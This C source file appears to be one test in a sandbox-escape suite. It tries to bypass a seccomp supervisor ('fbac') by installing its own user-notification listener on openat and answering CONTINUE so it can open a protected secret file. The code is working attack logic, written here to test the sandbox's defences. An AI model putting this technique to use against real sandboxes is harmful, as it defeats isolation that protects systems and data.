/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 13: a seccomp notification listener of the program's own. When
 * several filters return SECCOMP_RET_USER_NOTIF for a call, the newest
 * filter's listener gets it, and its SECCOMP_USER_NOTIF_FLAG_CONTINUE
 * answer runs the call in the kernel without asking fbac's supervisor. The
 * attack installs a filter that notifies openat with
 * SECCOMP_FILTER_FLAG_NEW_LISTENER (alone and with the other flags), and a
 * thread that answers CONTINUE to everything, then opens the secret. It
 * also checks that a plain allow-everything filter changes nothing.
 */
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>

#include "escape-common.h"

#ifndef SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV
#define SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV (1UL << 5)
#endif
#ifndef SECCOMP_FILTER_FLAG_TSYNC_ESRCH
#define SECCOMP_FILTER_FLAG_TSYNC_ESRCH (1UL << 4)
#endif

static int listener = -1;

static void *answer(void *p)
{
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	(void)p;
	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
			if (errno == EINTR || errno == ENOENT)
				continue;
			return NULL;
		}
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		(void)ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

int main(void)
{
	struct sock_filter notify_openat[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_filter allow_all[] = {
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { 4, notify_openat };
	struct sock_fprog allow = { 1, allow_all };
	static const unsigned long flag_sets[] = {
		SECCOMP_FILTER_FLAG_NEW_LISTENER,
		SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_WAIT_KILLABLE_RECV,
		SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_TSYNC |
			SECCOMP_FILTER_FLAG_TSYNC_ESRCH,
		SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_LOG,
		SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_SPEC_ALLOW,
	};
	pthread_t t;

	esc_init("nested-listener", "install a seccomp listener of our own and answer CONTINUE to openat of the secret");
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0)
		esc_setup_error("no_new_privs: %m");

	/* A filter without a listener: allowed, and must not loosen anything. */
	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &allow) == 0) {
		esc_control("a plain allow-all filter could be added");
		esc_try_open("after an allow-all filter", AT_FDCWD, esc_secret,
			     O_RDONLY, false);
	} else
		esc_say("plain filter: %m");
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &allow, 0, 0) == 0)
		esc_try_open("after prctl(PR_SET_SECCOMP)", AT_FDCWD, esc_secret,
			     O_RDONLY, false);

	for (size_t i = 0; i < sizeof(flag_sets) / sizeof(flag_sets[0]); i++) {
		long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
				  flag_sets[i], &prog);

		if (fd < 0) {
			esc_say("seccomp(NEW_LISTENER, flags %#lx): %m (held)",
				flag_sets[i]);
			continue;
		}
		listener = (int)fd;
		esc_say("got a listener (fd %d) with flags %#lx", listener,
			flag_sets[i]);
		break;
	}
	if (listener < 0)
		return esc_finish();
	if (pthread_create(&t, NULL, answer, NULL))
		esc_setup_error("pthread_create failed");
	esc_try_open("openat answered by our own listener", AT_FDCWD, esc_secret,
		     O_RDONLY, false);
	return esc_finish();
}
